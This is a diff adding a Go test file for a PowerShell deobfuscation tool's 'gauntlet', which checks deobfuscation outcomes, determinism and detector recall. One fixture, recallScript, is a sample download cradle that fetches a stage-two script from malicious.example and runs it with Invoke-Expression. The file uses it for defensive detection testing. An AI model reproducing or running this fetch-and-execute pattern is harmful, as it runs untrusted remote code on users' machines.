@@ -1,0 +1,138 @@
+package gauntlet_test
+
+import (
+	"context"
+	"encoding/json"
+	"testing"
+	"time"
+
+	"github.com/invoke-deobfuscation/invokedeob/internal/gauntlet"
+	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
+	"github.com/invoke-deobfuscation/invokedeob/internal/score"
+)
+
+// smokeConfig is the seconds-scale configuration `make gauntlet-smoke`
+// and this test share: small corpus, shallow wrappers, every profile.
+func smokeConfig() gauntlet.Config {
+	return gauntlet.Config{
+		Seed:     7,
+		Samples:  4,
+		MaxDepth: 2,
+		Timeout:  30 * time.Second,
+	}
+}
+
+func TestGauntletSmoke(t *testing.T) {
+	rep, err := gauntlet.Run(context.Background(), smokeConfig())
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if rep.TotalCases == 0 {
+		t.Fatal("gauntlet produced no cases")
+	}
+	if len(rep.Profiles) != len(obfuscate.ProfileNames()) {
+		t.Errorf("profiles summarized = %d, want %d", len(rep.Profiles), len(obfuscate.ProfileNames()))
+	}
+	valid := map[string]bool{
+		gauntlet.OutcomePass:        true,
+		gauntlet.OutcomeObfError:    true,
+		gauntlet.OutcomeObfSkipped:  true,
+		gauntlet.OutcomeObfDiverged: true,
+		gauntlet.OutcomeDeobError:   true,
+		gauntlet.OutcomeDiverged:    true,
+	}
+	for _, c := range rep.Cases {
+		if !valid[c.Outcome] {
+			t.Errorf("case %s/%s/%d: invalid outcome %q", c.Sample, c.Profile, c.Depth, c.Outcome)
+		}
+	}
+	for _, ps := range rep.Profiles {
+		if got := ps.Passes + ps.DeobErrors + ps.Diverged + ps.ObfErrors; got != ps.Cases {
+			t.Errorf("profile %s: outcome counts %d != cases %d", ps.Profile, got, ps.Cases)
+		}
+	}
+	// The smoke grid must clear the frozen baseline like the full grid.
+	if !rep.Evaluate(0, 0) {
+		t.Errorf("smoke run below frozen baseline: pass rate %.3f (floor %.3f), mean residual %.2f (ceiling %.2f)",
+			rep.PassRate, gauntlet.FrozenPassRate, rep.MeanResidualDelta, gauntlet.FrozenMeanResidualDelta)
+		for _, c := range rep.Cases {
+			if c.Outcome != gauntlet.OutcomePass && c.Outcome != gauntlet.OutcomeObfSkipped {
+				t.Logf("  %s/%s depth=%d: %s %s", c.Sample, c.Profile, c.Depth, c.Outcome, c.Detail)
+			}
+		}
+	}
+	// An impossible floor must fail the gate and record it.
+	if rep.Evaluate(1.01, gauntlet.FrozenMeanResidualDelta) {
+		t.Error("Evaluate(1.01, ...) = true, want gate failure")
+	}
+	if rep.Pass {
+		t.Error("report.Pass not updated by failing Evaluate")
+	}
+}
+
+func TestGauntletDeterminism(t *testing.T) {
+	run := func() []byte {
+		rep, err := gauntlet.Run(context.Background(), smokeConfig())
+		if err != nil {
+			t.Fatalf("Run: %v", err)
+		}
+		rep.ElapsedMS = 0
+		data, err := json.Marshal(rep)
+		if err != nil {
+			t.Fatalf("marshal: %v", err)
+		}
+		return data
+	}
+	a, b := run(), run()
+	if string(a) != string(b) {
+		t.Error("two runs with the same config produced different reports")
+	}
+}
+
+func TestUnknownProfileRejected(t *testing.T) {
+	cfg := smokeConfig()
+	cfg.Profiles = []string{"nonesuch"}
+	if _, err := gauntlet.Run(context.Background(), cfg); err == nil {
+		t.Error("Run with unknown profile succeeded, want error")
+	}
+}
+
+// recallScript is rich enough that every profile technique finds a
+// target: string literals, user variables, pipelines and cmdlet calls.
+const recallScript = `$payload = 'http://malicious.example/stage2.ps1'
+$client = New-Object System.Net.WebClient
+$data = $client.DownloadString($payload)
+Invoke-Expression $data
+Get-ChildItem C:\Users | ForEach-Object { Write-Host $_.Name }
+`
+
+// TestDetectorRecall pins the obfuscator-to-detector contract: every
+// technique still statically visible in a profile's output must be
+// flagged by internal/score. A failure names the missed technique so
+// the gap is actionable (either the detector regressed or the
+// technique's output stopped looking like itself).
+func TestDetectorRecall(t *testing.T) {
+	for _, p := range obfuscate.Profiles() {
+		p := p
+		t.Run(p.Name, func(t *testing.T) {
+			depth := p.MaxDepth
+			if depth > 2 {
+				depth = 2
+			}
+			for seed := int64(1); seed <= 5; seed++ {
+				o := obfuscate.New(seed)
+				out, applied, _, err := o.ApplyProfile(recallScript, p, depth)
+				if err != nil {
+					t.Fatalf("seed %d: ApplyProfile: %v", seed, err)
+				}
+				rep := score.Analyze(out)
+				for _, tech := range gauntlet.ExpectedDetections(applied) {
+					if !rep.Has(gauntlet.DetectorTech(tech)) {
+						t.Errorf("seed %d: technique %s applied (stack %v) but detector missed %s",
+							seed, tech, applied, gauntlet.DetectorTech(tech))
+					}
+				}
+			}
+		})
+	}
+}
